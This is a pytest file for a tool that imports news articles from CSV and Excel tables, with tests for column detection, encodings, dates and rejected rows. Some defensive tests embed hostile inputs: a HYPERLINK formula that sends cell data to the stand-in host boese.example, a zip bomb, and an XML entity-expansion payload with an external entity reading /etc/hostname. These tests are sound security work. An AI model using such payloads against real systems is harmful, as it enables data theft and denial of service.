"""Tables of articles: CSV and Excel, their columns in three languages, their rows one by one."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from geodata.articles.arriving import TablePreview, preview_table, read_table
from geodata.articles.arriving.table_columns import guess_mapping
from geodata.articles.arriving.table_dates import cell_date
from geodata.articles.incoming import Incoming, Origin
from geodata.models import DateRange, Problem
from tests.articles.brought import FIRE, TODAY, bounded, found, problems, read, refused, texts

DAY = DateRange.day(dt.date(2022, 1, 6))
HEADER = ("Titel", "Inhalt", "Datum", "Quelle", "Link", "Autorin", "Sprache")
ROW = ("Brand", FIRE, "06.01.2022", "Musterblatt", "https://blatt.example/1", "K. Muster", "de")


def numbered(fields: str) -> dict[str, int]:
    return {field: place for place, field in enumerate(fields.split())}


def csv(*rows: tuple[str, ...], delimiter: str = ";") -> str:
    return "\n".join(
        delimiter.join(f'"{cell.replace(chr(34), chr(34) * 2)}"' for cell in row) for row in rows
    )


def excel(*rows: tuple[object, ...], title: str = "Artikel", before: int = 0) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for number in range(before):
        sheet.append([f"Blatt {number}"])
        sheet = book.create_sheet()
    sheet.title = title
    for row in rows:
        sheet.append(list(row))
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def changed_part(data: bytes, part: str, new: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(file, "w", 8) as made:
        for name in old.namelist():
            made.writestr(name, new if name == part else old.read(name))
        if part not in old.namelist():
            made.writestr(part, new)
    return file.getvalue()


@pytest.mark.parametrize("data", [csv(HEADER, ROW), excel(HEADER, ROW)], ids=["csv", "excel"])
def test_a_row_is_an_article(data: bytes | str) -> None:
    (made,) = found(data, "tabelle.csv")
    assert isinstance(made, Incoming)
    told = made.article
    assert told.text == f"Brand\n\n{FIRE}"
    assert told.title == "Brand"
    assert (told.published, told.publisher, told.author) == (DAY, "Musterblatt", "K. Muster")
    assert (told.url, told.language) == ("https://blatt.example/1", "de")
    assert made.origin == Origin("file", "tabelle.csv, row 2")


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
def test_delimiter_and_encoding_are_recognised(delimiter: str, encoding: str) -> None:
    rows = [(f"Brücke {n}; und, so|weiter", f"Sätze über Brücke {n}, Weg; Fluß.") for n in range(9)]
    data = csv(("title", "text"), *rows, delimiter=delimiter).encode(encoding)
    shown = preview_table(data, "t.csv")
    assert isinstance(shown, TablePreview)
    assert shown.delimiter == delimiter
    assert shown.rows[0] == rows[0]
    assert [one.origin.name for one in found(data, "t.csv") if isinstance(one, Incoming)] == [
        f"t.csv, row {n}" for n in range(2, 11)
    ]


def test_russian_tables_in_windows_1251_are_read() -> None:
    told = "Во вторник в порту Батуми сгорел склад, сообщили спасатели. Никто не пострадал."
    data = csv(("Заголовок", "Текст", "Дата публикации"), ("Пожар", told, "6 января 2022"))
    notice, made = found(data.encode("cp1251"), "t.csv")
    assert isinstance(notice, Problem)
    assert "read as Windows-1251" in notice.message
    assert isinstance(made, Incoming)
    assert made.article.text == f"Пожар\n\n{told}"
    assert made.article.published == DAY


def test_excel_s_own_first_line_names_the_delimiter() -> None:
    assert read("sep=|\r\ntext|date\r\nIn Poti, Georgien; Regen.|6.1.2022\r\n", "t.csv").text == (
        "In Poti, Georgien; Regen."
    )


@pytest.mark.parametrize(
    ("columns", "mapping"),
    [
        (("Headline", "Body", "Publication date"), {"title": 0, "text": 1, "date": 2}),
        (
            ("Überschrift", "Volltext", "Erschienen am", "Zeitung"),
            numbered("title text date publisher"),
        ),
        (
            ("Заголовок", "Текст статьи", "Дата", "Источник", "Ссылка", "Автор", "Язык"),
            numbered("title text date publisher url author language"),
        ),
        (("content", "text"), {"text": 1}),
        ((" TEXT ", "URL:"), {"text": 0, "url": 1}),
        (("a", "b"), {}),
    ],
)
def test_columns_are_known_by_name(columns: tuple[str, ...], mapping: dict[str, int]) -> None:
    assert guess_mapping(columns) == {field: columns[place] for field, place in mapping.items()}


def test_an_explicit_mapping_goes_before_the_names() -> None:
    data = csv(("a", "text", "b"), ("Brand", "Regen in Poti.", FIRE)).encode()
    (made,) = read_table(data, "t.csv", {"text": "b", "title": "a"}, today=TODAY)
    assert isinstance(made, Incoming)
    assert made.article.text == f"Brand\n\n{FIRE}"
    (wrong,) = read_table(data, "t.csv", {"text": "c"}, today=TODAY)
    assert wrong == Problem("t.csv", "has no column 'c'; it has: a, text, b")


def test_each_rejected_row_is_named_with_its_reason() -> None:
    rows = (
        ("Brand", "", "", "", "", "", ""),
        ("Feu", FIRE, "", "", "", "", "fr"),
        ("Alt", FIRE, "neulich", "", "", "", ""),
        ("Kurz",),
        ("", "", "", "", "", "", ""),
        ROW,
    )
    said = problems(csv(HEADER, *rows), "t.csv")
    assert said.pop("t.csv, row 3").startswith("this article is in French (fr)")
    assert said == {
        "t.csv, row 2": "has no text",
        "t.csv, row 4": "the date 'neulich' is none; read without it",
        "t.csv, row 5": "has no text",
    }
    assert list(texts(csv(HEADER, *rows), "t.csv")) == ["t.csv, row 4", "t.csv, row 7"]


@pytest.mark.parametrize(
    ("stated", "date"),
    [
        ("2022-01-06", DAY),
        ("06.01.2022", DAY),
        ("6.1.22", DAY),
        ("06.01.2022 14:30", DAY),
        ("2022-01-06T10:00:00Z", DAY),
        ("20220106", DAY),
        ("20220106T101500Z", DAY),
        ("44567", DAY),
        ("44567,75", DAY),
        ("44567.75", DAY),
        ("6. Januar 2022", DAY),
        ("January 6, 2022", DAY),
        ("6 января 2022 г.", DAY),
        ("2022-01", DateRange.from_iso("2022-01")),
        ("1/6/2022", None),
        ("31/12/2021", DateRange.day(dt.date(2021, 12, 31))),
        ("neulich", None),
        ("99.99.2022", None),
    ],
)
def test_dates_of_cells_are_read_in_every_usual_form(stated: str, date: DateRange | None) -> None:
    assert cell_date(stated) == date


def test_excel_s_days_and_numbers_are_dates() -> None:
    rows = (
        (
            FIRE,
            dt.datetime(2022, 1, 6, 10),  # noqa: DTZ001 -- Excel knows no zones
        ),
        (f"{FIRE}!", dt.date(2022, 1, 6)),
        ("Regen.", 44567),
    )
    found_days = {
        one.article.published
        for one in found(excel(("text", "date"), *rows), "t.xlsx")
        if isinstance(one, Incoming)
    }
    assert found_days == {DAY}


def test_the_sheet_with_the_texts_is_found() -> None:
    shown = preview_table(excel(("Body", "Date"), (FIRE, None), before=2, title="Texte"), "t.xlsx")
    assert isinstance(shown, TablePreview)
    assert shown.sheet == "Texte"
    assert shown.mapping == {"text": "Body", "date": "Date"}


FORMULA = '=HYPERLINK("http://boese.example/?"&A1, "Hier")'


@pytest.mark.parametrize(
    "data",
    [csv(("text", "url"), (FORMULA, FORMULA)), excel(("text", "url"), (FORMULA, FORMULA))],
    ids=["csv", "excel"],
)
def test_a_formula_is_the_text_it_is(data: bytes | str) -> None:
    made = read(data, "t.csv")
    assert made.text == FORMULA
    assert made.url is None


@pytest.mark.parametrize(
    ("data", "said"),
    [
        ("a,b\n1,2", "has no column that is called text, body or the like; it has: a, b"),
        (",,\n1,2,3", "is no table: its first row names no columns"),
        (",".join(f"c{n}" for n in range(500)), "has 500 columns; a table may have 200"),
        (
            'text\n"Regen\n' + "in Poti\n" * 50,
            ("has a quotation mark in line 2 that is never closed; what follows is left out"),
        ),
        ("", "is empty"),
        (b"\x00\x01\x02", "is a binary file, not a text"),
    ],
)
def test_what_is_no_table_of_articles_says_why(data: bytes | str, said: str) -> None:
    assert refused(data, "t.csv") == said
    if data:
        whole = data.encode() if isinstance(data, str) else data
        assert isinstance(preview_table(whole, "t.csv"), TablePreview | Problem)


@pytest.mark.parametrize("sign", ["\u2028", "\u2029", "\x85", "\x0b", "\x0c"])
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_only_ends_of_lines_end_a_row(sign: str, end: str) -> None:
    rows = ("text;date", f"Regen in Poti.{sign}Sturm in Batumi.;6.1.2022", "Nebel.;7.1.2022")
    data = end.join(rows) + end
    assert texts(data, "t.csv") == {
        "t.csv, row 2": f"Regen in Poti.{sign}Sturm in Batumi.",
        "t.csv, row 3": "Nebel.",
    }


def test_columns_of_one_name_are_told_apart() -> None:
    shown = preview_table(b"text,text,,x\na,b,c,d", "t.csv")
    assert isinstance(shown, TablePreview)
    assert shown.columns == ("text", "text (2)", "C", "x")


@pytest.mark.parametrize(
    "data",
    [
        excel(HEADER, ROW)[:-200],
        b"PK\x03\x04[Content_Types].xml" + b"\x00" * 500,
        changed_part(excel(HEADER, ROW), "xl/workbook.xml", b"<kein"),
    ],
)
def test_a_broken_excel_file_is_refused_in_one_line(data: bytes) -> None:
    assert refused(data, "t.xlsx").startswith(("is no Excel file", "is no zip archive"))


def test_an_excel_file_that_unpacks_to_too_much_is_refused() -> None:
    bomb = changed_part(excel(HEADER, ROW), "xl/sharedStrings.xml", b" " * 210_000_000)
    with bounded(seconds=1):
        assert refused(bomb, "t.xlsx").endswith("MB; a table may have 200 MB")


def test_entities_in_an_excel_file_do_nothing() -> None:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    doctype = f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}<!ENTITY p SYSTEM "file:///etc/hostname">]>'
    sheet = (
        f'<?xml version="1.0"?>{doctype}<worksheet xmlns="http://schemas.openxmlformats.org/'
        'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>text</t>'
        '</is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>&l11;&p;</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    data = changed_part(excel(HEADER, ROW), "xl/worksheets/sheet1.xml", sheet.encode())
    read(excel(HEADER, ROW), "t.xlsx")  # loads what reads Excel files
    with bounded(seconds=5, megabytes=30):
        said = [str(one) for one in found(data, "t.xlsx")]
    assert len(said) == 1
    assert len(said[0]) < 2_000


def test_a_sheet_of_empty_rows_ends() -> None:
    rows = "".join(f'<row r="{n}"><c r="A{n}"/></row>' for n in range(2, 60_000))
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>text</t></is></c></row>'
        f"{rows}</sheetData></worksheet>"
    )
    data = changed_part(excel(HEADER, ROW), "xl/worksheets/sheet1.xml", sheet.encode())
    with bounded(seconds=5):
        assert found(data, "t.xlsx") == [Problem("t.xlsx", "holds no rows below its columns")]


def test_a_long_text_in_a_cell_is_read_whole() -> None:
    assert len(read(csv(("text",), (FIRE * 3_000,)), "t.csv").text) == len(FIRE) * 3_000


def test_rows_beyond_the_limit_end_with_a_line(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("geodata.articles.arriving.csv_rows.TABLE_ROWS", 3)
    data = csv(("text",), *[(f"Regen in Poti, Tag {n}.",) for n in range(9)])
    *_, last = found(data, "t.csv")
    assert last == Problem("t.csv", "has more than 3 rows; the rest is left out")
